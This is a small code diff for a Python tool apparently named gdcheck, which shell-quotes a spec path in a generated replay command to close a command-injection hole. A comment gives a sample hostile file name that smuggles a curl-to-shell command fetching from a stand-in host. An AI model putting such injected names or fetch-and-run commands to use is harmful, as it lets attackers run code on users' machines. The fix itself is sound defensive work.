@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any
@@ -36,7 +37,8 @@ class Context:
     @property
     def replay(self) -> str:
         override = "" if self.examples is None else f" --examples {self.examples}"
-        return f"gdcheck verify {self.spec.path} --seed {self.seed}{override}"
+        # quoted: a spec named `x;curl evil|sh;.yaml` must not run curl when pasted
+        return f"gdcheck verify {shlex.quote(str(self.spec.path))} --seed {self.seed}{override}"
 
     def point(self, theta: np.ndarray) -> dict[str, Any]:
         """θ as parameter name → value (number or nested list), for reports."""
